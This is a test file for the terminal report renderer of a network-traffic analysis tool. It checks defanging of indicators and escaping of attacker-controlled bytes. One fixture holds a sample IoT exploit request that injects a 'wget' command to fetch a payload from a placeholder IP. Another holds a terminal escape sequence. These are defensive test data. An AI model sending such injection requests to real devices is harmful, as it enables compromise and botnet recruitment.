import { describe, expect, it } from "vitest";
import type { AnalysisReport } from "../schema/report.js";
import { renderReport, safeText, sparkline } from "./terminal.js";

function report(): AnalysisReport {
  return {
    version: 1,
    generator: { name: "portent", version: "0", fingerprintVersion: 1 },
    input: {
      files: ["x.pcap"],
      packets: 10,
      bytes: 1000,
      start: "2018-06-14T03:00:00.000Z",
      end: "2018-06-14T05:00:00.000Z",
      anomalies: { truncated_record: 1 },
      anomalyFirst: { truncated_record: { file: "x.pcap", offset: 990, detail: "" } },
      details: [],
      nonIp: 0,
    },
    hoursStart: "2018-06-14T03:00:00.000Z",
    bucketSeconds: 3600,
    ports: [
      {
        proto: "tcp",
        port: 8000,
        packets: 9,
        probes: 2,
        sessions: 1,
        sources: 3,
        hourly: [1, 0, 8],
        fingerprints: { mirai: 3, unknown: 1 },
      },
      {
        proto: "udp",
        port: 53,
        packets: 1,
        probes: 1,
        sessions: 0,
        sources: 1,
        hourly: [1, 0, 0],
        fingerprints: {},
      },
    ],
    fingerprints: [{ name: "mirai", sources: 2, packets: 3, exclusiveSources: 2 }],
    topSources: [
      {
        address: "2001:db8:ffff:ffff:ffff:ffff:ffff:fffe",
        packets: 5,
        ports: 1,
        sessions: 1,
        first: "",
        last: "",
        fingerprints: { mirai: 0.75, unknown: 0.25 },
      },
    ],
    streams: { sessions: 1, probes: 3, flowsEvicted: 0, httpSessions: 1 },
    alerts: [],
    surges: [],
    campaigns: [],
    iocs: [],
  };
}

describe("renderReport", () => {
  it("prints every section within 100 columns and no escape codes without colour", () => {
    const text = renderReport(report(), { color: false, top: 15, sparkWidth: 36 });
    for (const line of text.split("\n")) expect([...line].length).toBeLessThanOrEqual(100);
    expect(text).not.toContain("\x1b[");
    expect(text).toContain("8000/tcp");
    expect(text).toContain("75%"); // the Mirai share of port 8000's SYNs
    expect(text).toContain("truncated_record: first in x.pcap at byte 990");
    expect(text).toContain("mirai 75%, unknown 25%");
  });

  it("lists alerts per rule with CVE, clipping long messages to the width", () => {
    const r = report();
    r.alerts = [
      {
        sid: 9200001,
        msg: `PORTENT XiongMai uc-httpd login.htm username overflow ${"x".repeat(120)}`,
        cve: ["CVE-2018-10088"],
        count: 1234,
        sources: 412,
        first: "2018-06-14T03:00:00.000Z",
        last: "2018-06-14T05:00:00.000Z",
        gid: 1,
        rev: 1,
        classtype: "attempted-admin",
        ports: [8000],
      },
    ];
    const text = renderReport(r, { color: false, top: 15, sparkWidth: 36 });
    expect(text).toContain("ALERTS  (1,234 alerts from 1 rules)");
    expect(text).toMatch(/9200001 +1,234 +412 +CVE-2018-10088 +PORTENT XiongMai/);
    for (const line of text.split("\n")) expect([...line].length).toBeLessThanOrEqual(100);
    expect(renderReport(report(), { color: false, top: 15, sparkWidth: 36 })).not.toContain(
      "ALERTS",
    );
  });

  it("shows campaigns and IoCs defanged, with attacker bytes escaped, within 100 columns", () => {
    const r = report();
    r.campaigns = [
      {
        id: "bb4613d85e6e0e08",
        template: "bb4613d85e6e0e08",
        sample: "GET /login.cgi?cli=aa%20aa%27;wget%20http://198.51.100.7/r\x1b]0;owned\x07",
        ports: [80, 8080],
        first: "2018-06-15T00:00:00.000Z",
        last: "2018-06-16T00:00:00.000Z",
        sessions: 4708,
        sources: 754,
        cve: [],
        family: "satori",
        iocs: ["http://198.51.100.7/r"],
        draftRule: `alert http any any -> $HOME_NET [80,8080] (msg:"PORTENT DRAFT"; ${'content:"x"; '.repeat(30)}sid:9900001; rev:1;)`,
        kind: "http",
        templateText: "GET /login.cgi [cli]",
        sids: [],
        alertedSessions: 0,
        fingerprints: { mirai: 0.5, unknown: 0.5 },
        familyConfidence: 0.79,
        familyReasons: [],
        sourcesCapped: false,
      },
    ];
    r.iocs = [
      {
        type: "url",
        value: "http://198.51.100.7/r",
        first: "2018-06-15T00:00:00.000Z",
        last: "2018-06-16T00:00:00.000Z",
        count: 4708,
        campaigns: ["bb4613d85e6e0e08"],
      },
    ];
    const text = renderReport(r, { color: false, top: 15, sparkWidth: 36 });
    for (const line of text.split("\n")) expect([...line].length).toBeLessThanOrEqual(100);
    expect(text).toContain("CAMPAIGNS");
    expect(text).toContain("family satori (0.79)");
    expect(text).toContain("SYNs: mirai 50%, unknown 50%");
    expect(text).toContain("hxxp://198.51.100[.]7/r");
    expect(text).not.toContain("http://198.51.100.7/r");
    expect(text).not.toContain("\x1b]0;");
    expect(text).toContain("\\x1b]0;owned\\x07");
    expect(text).toContain("no rule matched; draft rule:");
    const raw = renderReport(r, { color: false, top: 15, sparkWidth: 36, defang: false });
    expect(raw).toContain("http://198.51.100.7/r");
  });

  it("uses colour only when asked", () => {
    expect(renderReport(report(), { color: true, top: 15, sparkWidth: 36 })).toContain("\x1b[1m");
  });
});

describe("safeText", () => {
  it("escapes controls, DEL, C1 and bidirectional overrides, and leaves the rest", () => {
    expect(safeText("a\x1b[2Jb\x7f\x9b\u202ec")).toBe("a\\x1b[2Jb\\x7f\\x9b\\u202ec");
    expect(safeText("plain text: ü")).toBe("plain text: ü");
  });
});

describe("sparkline", () => {
  it("scales to the row maximum and resamples long series", () => {
    expect(sparkline([0, 1, 8], 36)).toBe(" ▁█");
    expect(sparkline([0, 0], 36)).toBe("  ");
    expect(sparkline(new Array(240).fill(1), 36)).toBe("█".repeat(36));
    expect(sparkline([], 36)).toBe("");
  });
});
